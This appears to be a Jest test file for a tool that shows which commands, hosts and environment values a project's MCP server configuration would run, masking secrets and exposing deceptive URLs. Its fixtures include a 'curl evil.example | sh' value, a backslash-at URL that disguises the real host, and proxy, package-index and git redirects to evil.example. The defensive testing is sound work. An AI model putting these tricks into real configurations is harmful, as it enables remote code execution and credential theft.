import { describe, expect, it } from '@jest/globals';
import { revealText, revealValue } from '../config/reveal.ts';
import { listCommands, listHosts } from '../config/servers.ts';

describe('what is shown of a file that a project wants trusted', () => {
  const written = {
    mcpServers: {
      'a.b': { command: 'npx', args: ['x'], env: { A: 'secret', B: '${B}', C: 'Bearer ${C:-secret}', NODE_OPTIONS: '--require ./x', NODE_AUTH_TOKEN: 'secret' } },
      r: { url: 'https://user:secret@good.example\\@evil.example/p?secret#secret', headers: { 'x\n': 'secret' } },
      v: { url: 'https://user:secret@${HOST}/p?secret' },
    },
  };

  it('lists the commands and hosts of a project whole: what would be hidden is where an attack would stand', () => {
    expect(listCommands(written)).toEqual([
      'a.b: ["npx","x"] with "A"="secret" "B"="${B}" "C"="Bearer ${C:-secret}" "NODE_OPTIONS"="--require ./x" "NODE_AUTH_TOKEN"="secret"',
    ]);
    expect(listHosts(written)).toEqual([
      'r: good.example (https://user:secret@good.example/@evil.example/p?secret#secret) with "x\\n"="secret"',
      'v: a host from the environment (https://user:secret@${HOST}/p?secret)',
    ]);
    expect(listCommands({ mcpServers: { a: { command: 'x\u001b[2J\u202e', cwd: '/a\nb' } } })).toEqual(['a: ["x\\u001b[2J\\u202e"] in "/a\\nb"']);
  });

  it.each<[string, string]>([
    ['http://127.0.0.1:18080/mcp?x=${GITHUB_TOKEN}&y=${HOME}', '127.0.0.1:18080'],
    ['http://h.example:8080/${PLACE}#${PART}', 'h.example:8080'],
    ['https://good.example\\@evil.example/?${X}', 'good.example'],
    ['https://${USER}:${TOKEN}@h.example/', 'h.example, or what the environment makes of it by USER, TOKEN'],
    ['https://h.example:${PORT}/mcp', 'h.example, or what the environment makes of it by PORT'],
    ['https://${HOST}/mcp', 'a host from the environment'],
    ['https://${HOST:-h.example}/mcp', 'a host from the environment'],
    ['https://h.example${MORE}/mcp', 'a host from the environment'],
    ['https://${PART}.h.example/mcp', 'a host from the environment'],
    ['https://10.0.0.${LAST}/mcp', 'a host from the environment'],
    ['${URL}', 'a host from the environment'],
    ['http://', 'not a URL'],
  ])('judges the host of %s apart from what is sent to it', (url, host) => {
    const shown = listHosts({ mcpServers: { a: { url, headers: { 'X-Id': 'u-${ID}' } } } }).join('');
    expect(shown).toBe(`a: ${host} (${url.replaceAll('\\', '/')}) with "X-Id"="u-\${ID}"`);
  });

  const RANDOM = 'ghp_1a2B3c4D5e6F7g8H9i0J';
  it.each<[string, string, string]>([
    ['UV_INDEX_URL', 'https://a1b2c3d4e5f6g7.evil.example/simple', 'https://a1b2c3d4e5f6g7.evil.example/simple'],
    ['HTTPS_PROXY', 'http://evil.example:8080', 'http://evil.example:8080'],
    ['GIT_ASKPASS', './ask.sh', './ask.sh'],
    ['SSH_ASKPASS', 'ask --all', 'ask --all'],
    ['GIT_CONFIG_KEY_0', 'url.https://evil.example/.insteadOf', 'url.https://evil.example/.insteadOf'],
    ['X_TOKEN', 'curl evil.example | sh', 'curl evil.example | sh'],
    ['API_KEY', '${KEY:-x}', '${KEY:-x}'],
    ['API_KEY', RANDOM, '(hidden)'],
    ['API_KEY', `\${KEY:-${RANDOM}}`, '${KEY:-(hidden)}'],
    ['AWS_SECRET_ACCESS_KEY', 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY', '(hidden)'],
    ['Authorization', `Bearer ${RANDOM}`, '(hidden)'],
    ['Authorization', 'Bearer ${GITHUB_TOKEN}', 'Bearer ${GITHUB_TOKEN}'],
    ['DATABASE', `postgres://app:${RANDOM}@\${HOST}/db`, 'postgres://app:(hidden)@${HOST}/db'],
  ])('of a project’s %s=%s is %s', (name, text, expected) => {
    expect(revealText(name, text)).toBe(expected);
  });

  it('hides of a project’s arguments what a flag calls a secret, and the flag of none', () => {
    expect(revealValue('', ['--token', RANDOM, `--api-key=${RANDOM}`, '--import', './x'])).toEqual(['--token', '(hidden)', '--api-key=(hidden)', '--import', './x']);
  });

  it('cuts what is long, and says so, but neither the others nor the end', () => {
    const long = `${'x'.repeat(200_000)}; evil`;
    const [line = ''] = listCommands({ mcpServers: { a: { command: 'sh', args: ['-c', long, 'last'], env: { A: long, [long]: 'y', Z: '${Z}' } } } });
    expect(line).toMatch(/^a: \["sh","-c","x+… \(199,\d{3} more characters, look at them in the file\) …x+; evil","last"\] with "A"="x+… .*"="y" "Z"="\$\{Z\}"$/);
    expect(line.length).toBeLessThan(5_000);
  });
});
